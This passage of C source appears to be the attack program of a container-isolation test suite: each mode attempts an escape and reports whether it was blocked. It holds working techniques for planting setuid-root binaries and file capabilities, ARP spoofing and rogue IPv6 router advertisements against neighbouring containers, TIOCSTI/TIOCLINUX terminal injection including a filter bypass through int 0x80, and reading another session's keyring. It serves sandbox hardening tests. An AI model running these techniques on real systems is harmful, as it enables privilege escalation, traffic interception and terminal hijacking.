    snprintf(path, sizeof path, "%s/p-chmod", dir);
    fd = copy_self(path, 0755);
    rc = fd < 0 ? -1 : (close(fd), chmod(path, 04755));
    planted("setuid root by chmod", path, rc);
    snprintf(path, sizeof path, "%s/p-fchmod", dir);
    fd = copy_self(path, 0755);
    rc = fd < 0 ? -1 : fchmod(fd, 04755);
    if (fd >= 0) close(fd);
    planted("setuid root by fchmod", path, rc);
    snprintf(path, sizeof path, "%s/p-open", dir);
    fd = copy_self(path, 04755);
    rc = fd < 0 ? -1 : 0;
    if (fd >= 0) close(fd);
    planted("setuid root by open with the mode", path, rc);
    snprintf(path, sizeof path, "%s/p-sgid", dir);
    fd = copy_self(path, 0755);
    rc = fd < 0 ? -1 : (close(fd), chmod(path, 02755));
    planted("setgid root by chmod", path, rc);
    snprintf(path, sizeof path, "%s/p-fcap", dir);
    fd = copy_self(path, 0755);
    if (fd >= 0) close(fd);
    /* vfs_cap_data revision 2, effective, permitted = CAP_SETUID (7). */
    unsigned int cap[5] = {0x02000001, 1u << 7, 0, 0, 0};
    rc = fd < 0 ? -1 : setxattr(path, "security.capability", cap, sizeof cap, 0);
    planted("file capability cap_setuid", path, rc);
    snprintf(path, sizeof path, "%s/p-node", dir);
    rc = mknod(path, S_IFBLK | 0666, makedev(maj, min));
    if (rc == 0) chmod(path, 0666);
    planted("block node open to all", path, rc);
}

/* overwrite PATH: replace the contents of an existing setuid-root file (the image's) with
 * this program; the kernel clears the bits unless the writer has CAP_FSETID. */
static void do_overwrite(const char *path) {
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), out = open(path, O_WRONLY | O_CLOEXEC);
    char buf[65536];
    ssize_t n;
    int rc = in < 0 || out < 0 ? -1 : 0;
    while (rc == 0 && (n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n) rc = -1;
    if (in >= 0) close(in);
    if (out >= 0) close(out);
    planted("setuid root by overwriting", path, rc);
}

/* euid: what this process is once exec'd (a file capability lets it setuid(0)). */
static void do_euid(void) {
    if (setuid(0) != 0) { /* expected for an unprivileged run */ }
    printf("euid=%d egid=%d\n", (int)geteuid(), (int)getegid());
}

/* devwrite PATH MARKER: write MARKER at the start of the device node PATH. */
static void do_devwrite(const char *path, const char *marker) {
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) { blocked_errno(path); return; }
    size_t len = strlen(marker);
    if (pwrite(fd, marker, len, 0) == (ssize_t)len && fsync(fd) == 0) escape(path, "the device is writable");
    else blocked_errno(path);
    close(fd);
}
/* end setuid */

/* network: attacks on the other containers of a bridge, from a packet socket (CAP_NET_RAW). */
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>

/* A packet socket bound to IFACE; its index and MAC through *index and mac. -1 when refused. */
static int packet_socket(const char *iface, int proto, int *index, unsigned char mac[6], const char *what) {
    int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(proto));
    if (s < 0) { blocked_errno(what); return -1; }
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", iface);
    if (ioctl(s, SIOCGIFINDEX, &ifr) != 0) { printf("INFO %s: no index: %s\n", iface, strerror(errno)); close(s); return -1; }
    *index = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) != 0) { printf("INFO %s: no MAC: %s\n", iface, strerror(errno)); close(s); return -1; }
    memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(proto), .sll_ifindex = *index};
    if (bind(s, (struct sockaddr *)&ll, sizeof ll) != 0) { blocked_errno(what); close(s); return -1; }
    return s;
}

static void send_frame(int s, int index, const unsigned char *frame, size_t len) {
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = index, .sll_halen = 6};
    memcpy(to.sll_addr, frame, 6);
    if (sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof to) < 0) printf("INFO sendto: %s\n", strerror(errno));
}

/* arp-spoof IFACE VICTIM MS: claim the IPv4 address VICTIM (another container's) with
 * gratuitous ARP requests and replies, for up to MS milliseconds, and wait for a packet sent
 * to VICTIM to arrive here instead of there. */
static void do_arp_spoof(const char *iface, const char *victim, int ms) {
    const char *what = "ARP spoofing another container (a packet socket needs CAP_NET_RAW)";
    int index;
    unsigned char mac[6];
    struct in_addr ip;
    if (inet_pton(AF_INET, victim, &ip) != 1) { fprintf(stderr, "nsattack: bad address %s\n", victim); exit(2); }
    int s = packet_socket(iface, ETH_P_ALL, &index, mac, what);
    if (s < 0) return;
    printf("INFO packet socket open on %s, MAC %02x:%02x:%02x:%02x:%02x:%02x\n", iface, mac[0], mac[1], mac[2], mac[3], mac[4], mac[5]);
    unsigned char frame[42];
    long end = now_ms() + ms, next = 0;
    int sent = 0;
    while (now_ms() < end) {
        if (now_ms() >= next) {
            for (int op = 1; op <= 2; op++) { /* a request, then a reply: both are gratuitous */
                memset(frame, 0xff, 6);
                memcpy(frame + 6, mac, 6);
                frame[12] = 0x08; frame[13] = 0x06;
                unsigned char arp[28] = {0, 1, 8, 0, 6, 4, 0, (unsigned char)op};
                memcpy(arp + 8, mac, 6);
                memcpy(arp + 14, &ip, 4);
                memset(arp + 18, op == 1 ? 0 : 0xff, 6);
                memcpy(arp + 24, &ip, 4);
                memcpy(frame + 14, arp, 28);
                send_frame(s, index, frame, sizeof frame);
                sent++;
            }
            next = now_ms() + 300;
        }
        struct pollfd p = {.fd = s, .events = POLLIN};
        if (poll(&p, 1, 50) <= 0) continue;
        unsigned char in[2048];
        ssize_t n = recv(s, in, sizeof in, 0);
        /* An IPv4 packet to VICTIM, sent to this container's MAC. */
        if (n >= 34 && !memcmp(in, mac, 6) && in[12] == 0x08 && in[13] == 0x00 && !memcmp(in + 30, &ip, 4)) {
            char from[INET_ADDRSTRLEN], detail[200];
            inet_ntop(AF_INET, in + 26, from, sizeof from);
            snprintf(detail, sizeof detail, "after %d gratuitous ARPs, a packet from %s to %s arrived here", sent, from, victim);
            escape("take over another container's address by ARP spoofing", detail);
            close(s);
            return;
        }
    }
    printf("INFO %d gratuitous ARPs sent\n", sent);
    blocked("take over another container's address by ARP spoofing", "no packet for it arrived here");
    close(s);
}

static unsigned short csum_add(unsigned long sum, const unsigned char *p, size_t len) {
    for (size_t i = 0; i + 1 < len; i += 2) sum += (p[i] << 8) | p[i + 1];
    if (len & 1) sum += p[len - 1] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)sum;
}

/* ra IFACE PREFIX: send a router advertisement to ff02::1 (all nodes): PREFIX/64 for
 * autoconfiguration, and this container as the default router. The test looks at what the
 * host's bridge and another container made of it; here it is only INFO. */
static void do_ra(const char *iface, const char *prefix) {
    int index;
    unsigned char mac[6], net[16];
    if (inet_pton(AF_INET6, prefix, net) != 1) { fprintf(stderr, "nsattack: bad prefix %s\n", prefix); exit(2); }
    int s = packet_socket(iface, ETH_P_IPV6, &index, mac, "send a router advertisement (a packet socket needs CAP_NET_RAW)");
    if (s < 0) return;
    unsigned char f[14 + 40 + 16 + 8 + 32] = {0x33, 0x33, 0, 0, 0, 1};
    memcpy(f + 6, mac, 6);
    f[12] = 0x86; f[13] = 0xdd;
    unsigned char *ip6 = f + 14, *icmp = ip6 + 40;
    size_t icmp_len = 16 + 8 + 32;
    ip6[0] = 0x60;
    ip6[4] = icmp_len >> 8; ip6[5] = icmp_len & 0xff;
    ip6[6] = 58;   /* ICMPv6 */
    ip6[7] = 255;  /* the hop limit a router advertisement must have */
    unsigned char src[16] = {0xfe, 0x80, [8] = mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]};
    unsigned char dst[16] = {0xff, 0x02, [15] = 1};
    memcpy(ip6 + 8, src, 16);
    memcpy(ip6 + 24, dst, 16);
    unsigned char ra[16] = {134, 0, 0, 0, 64, 0, 0x07, 0x08}; /* router lifetime 1800 s */
    memcpy(icmp, ra, 16);
    unsigned char sll[8] = {1, 1};                             /* source link-layer address */
    memcpy(sll + 2, mac, 6);
    memcpy(icmp + 16, sll, 8);
    unsigned char pi[32] = {3, 4, 64, 0xc0,                    /* prefix information: on-link, autonomous */
                            0x00, 0x01, 0x51, 0x80,            /* valid 86400 s */
                            0x00, 0x00, 0x38, 0x40};           /* preferred 14400 s */
    memcpy(pi + 16, net, 16);
    memcpy(icmp + 24, pi, 32);
    unsigned char pseudo[40] = {0};
    memcpy(pseudo, src, 16);
    memcpy(pseudo + 16, dst, 16);
    pseudo[34] = icmp_len >> 8; pseudo[35] = icmp_len & 0xff;
    pseudo[39] = 58;
    unsigned long sum = csum_add(0, pseudo, sizeof pseudo);
    unsigned short c = ~csum_add(sum, icmp, icmp_len);
    icmp[2] = c >> 8; icmp[3] = c & 0xff;
    for (int i = 0; i < 3; i++) {
        send_frame(s, index, f, sizeof f);
        usleep(300000);
    }
    printf("INFO 3 router advertisements sent on %s for %s/64\n", iface, prefix);
    close(s);
}
/* end of network */
/* terminal and keyring (issue 13, items 2 and 6) */
#include <sys/mman.h>
#include <sys/syscall.h>

/* An i386 system call through `int 0x80` (arguments must be 32-bit addresses). */
static long int80(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return ret;
}

/* TIOCSTI of TEXT through the i386 table, in a child: a filter may kill it. */
static void tty_int80(int fd, const char *text) {
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) { printf("INFO mmap MAP_32BIT: %s\n", strerror(errno)); return; }
    pid_t pid = fork();
    if (pid == 0) {
        for (const char *c = text; *c; c++) {
            low[0] = *c;
            long rc = int80(54 /* i386 ioctl */, fd, TIOCSTI, (long)(unsigned long)low);
            if (rc != 0) _exit(rc < 0 && rc > -4096 ? (int)-rc : 100);
        }
        _exit(0);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    const char *what = "TIOCSTI through int 0x80 (i386 table)";
    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) escape(what, "keystrokes pushed into the terminal");
    else if (WIFSIGNALED(status)) { char d[64]; snprintf(d, sizeof d, "killed by signal %d", WTERMSIG(status)); blocked(what, d); }
    else { char d[64]; snprintf(d, sizeof d, "errno %d (%s)", WEXITSTATUS(status), strerror(WEXITSTATUS(status))); blocked(what, d); }
}

/* tty MARKER: every way of acting on the terminal at fd 0. The test checks the effects itself
 * (bytes in the terminal's input, window size, line discipline): MARKER is never printed.
 * TIOCSETD comes last, as N_NULL silences the terminal this program writes to. */
static void do_tty(const char *marker) {
    if (!isatty(0)) { printf("INFO fd 0 is not a terminal\n"); exit(2); }
    char text[128];
    snprintf(text, sizeof text, "%sN\n", marker);
    int ok = 1;
    for (const char *c = text; *c; c++) if (ioctl(0, TIOCSTI, c) != 0) { ok = 0; break; }
    if (ok) escape("TIOCSTI (CVE-2017-5226)", "keystrokes pushed into the terminal");
    else blocked_errno("TIOCSTI (CVE-2017-5226)");
    snprintf(text, sizeof text, "%sI\n", marker);
    tty_int80(0, text);
    /* TIOCLINUX needs a virtual console: on a pty the kernel's tty layer answers ENOTTY, and
     * only a filter answers EPERM (the test tells the two apart). */
    char sub[2] = {3 /* TIOCL_PASTESEL */, 0};
    if (ioctl(0, TIOCLINUX, sub) == 0) escape("TIOCLINUX (CVE-2023-1523)", "pasted into the console");
    else if (errno == EPERM) blocked_errno("TIOCLINUX (CVE-2023-1523)");
    else printf("INFO TIOCLINUX reached the tty layer: %s\n", strerror(errno));
    struct winsize ws = {.ws_row = 11, .ws_col = 13};
    if (ioctl(0, TIOCSWINSZ, &ws) == 0) escape("TIOCSWINSZ", "the terminal's window size changed");
    else blocked_errno("TIOCSWINSZ");
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (fd >= 0) { printf("INFO /dev/tty opens: a controlling terminal\n"); close(fd); }
    else printf("INFO /dev/tty: %s\n", strerror(errno));
    printf("INFO trying TIOCSETD N_NULL\n");
    fflush(stdout);
    int null_ldisc = 27;
    if (ioctl(0, TIOCSETD, &null_ldisc) == 0) escape("TIOCSETD N_NULL", "the terminal is dead");
    else blocked_errno("TIOCSETD N_NULL");
}

/* keyring-session DESC VALUE CMD...: on the host side, a new session keyring holding the
 * `user` key DESC=VALUE (as `keyctl session - ; keyctl add user DESC VALUE @s`), its serial
 * number in NSC_KEY_ID, then exec CMD. */
static int do_keyring_session(const char *desc, const char *value, char **cmd) {
    if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0) { perror("nsattack: keyctl join"); return 2; }
    long key = syscall(SYS_add_key, "user", desc, value, strlen(value), -3 /* @s */);
    if (key < 0) { perror("nsattack: add_key"); return 2; }
    char id[32];
    snprintf(id, sizeof id, "%ld", key);
    setenv("NSC_KEY_ID", id, 1);
    execvp(cmd[0], cmd);
    perror("nsattack: exec");
    return 2;
}

/* keyring DESC: the caller's `user` key DESC must be out of reach, by search from the session
 * keyring and by its serial number (NSC_KEY_ID, when the caller passed it down). */
static void do_keyring(const char *desc) {
    char buf[256];
    long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* @s */, "user", desc, 0);
    if (key < 0) blocked_errno("find the caller's key from the session keyring");
    else {
        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, buf, sizeof buf - 1);
        if (n >= 0) { buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0; escape("read the caller's key found from the session keyring", buf); }
        else blocked_errno("read the caller's key found from the session keyring");
    }
    const char *id = getenv("NSC_KEY_ID");
    if (id && *id) {
        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, atol(id), buf, sizeof buf - 1);
        if (n >= 0) { buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0; escape("read the caller's key by its serial number", buf); }
        else blocked_errno("read the caller's key by its serial number");
    } else printf("INFO NSC_KEY_ID is not set: no read by serial number\n");
}
/* end of terminal and keyring */

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) { fprintf(stderr, "usage: nsattack MODE ARGS\n"); return 2; }
    const char *m = argv[1];
    if (!strcmp(m, "read")) do_read(argc - 2, argv + 2);
    else if (!strcmp(m, "chroot") && argc == 3) do_chroot(argv[2]);
    else if (!strcmp(m, "mknod") && argc == 4) do_mknod(atoi(argv[2]), atoi(argv[3]));
    else if (!strcmp(m, "sysctl")) do_sysctl();
    else if (!strcmp(m, "procs") && argc == 3) do_procs(argv[2]);
    else if (!strcmp(m, "setns")) do_setns();
    else if (!strcmp(m, "fds")) do_fds();
    else if (!strcmp(m, "exe-watch") && argc >= 3) do_exe_watch(atoi(argv[2]), argc - 3, argv + 3);
    else if (!strcmp(m, "net") && argc == 4) do_net(atoi(argv[2]), argv[3]);
    else if (!strcmp(m, "serve") && argc == 4) do_serve(atoi(argv[2]), argv[3]);
    else if (!strcmp(m, "sysv") && argc == 3) do_sysv((key_t)strtol(argv[2], NULL, 0));
    else if (!strcmp(m, "tiocsti") && argc == 3) do_tiocsti(argv[2]);
    else if (!strcmp(m, "devnull")) do_devnull();
    else if (!strcmp(m, "mksysv") && argc == 3) do_mksysv((key_t)strtol(argv[2], NULL, 0));
    else if (!strcmp(m, "sethostname") && argc == 3) do_sethostname(argv[2]);
    /* network */
    else if (!strcmp(m, "arp-spoof") && argc == 5) do_arp_spoof(argv[2], argv[3], atoi(argv[4]));
    else if (!strcmp(m, "ra") && argc == 4) do_ra(argv[2], argv[3]);
    /* end of network */
    else if (!strcmp(m, "tty") && argc == 3) do_tty(argv[2]); /* terminal */
    else if (!strcmp(m, "keyring") && argc == 3) do_keyring(argv[2]); /* keyring */
    else if (!strcmp(m, "keyring-session") && argc >= 5) return do_keyring_session(argv[2], argv[3], argv + 4); /* keyring */
    else if (!strcmp(m, "sleep") && argc >= 3) { usleep(atoi(argv[2]) * 1000); }
    /* join */
    else if (!strcmp(m, "root-watch") && (argc == 6 || argc == 7))
        do_root_watch(atoi(argv[2]), argv[3], argv[4], argv[5], argc == 7 ? argv[6] : NULL);
    else if (!strcmp(m, "status-like") && argc == 3) do_status_like(atoi(argv[2]));
    /* end join */
    /* setuid */
    else if (!strcmp(m, "plant") && argc == 5) do_plant(argv[2], atoi(argv[3]), atoi(argv[4]));
    else if (!strcmp(m, "overwrite") && argc == 3) do_overwrite(argv[2]);
    else if (!strcmp(m, "euid")) do_euid();
    else if (!strcmp(m, "devwrite") && argc == 4) do_devwrite(argv[2], argv[3]);
    /* devices */
    else if (!strcmp(m, "devnode") && argc >= 6) do_devnode(atoi(argv[2]), atoi(argv[3]), argv[4], argc - 5, argv + 5);
    else { fprintf(stderr, "nsattack: unknown mode %s\n", m); return 2; }
    fflush(stdout);
    return escaped ? 1 : 0;
}
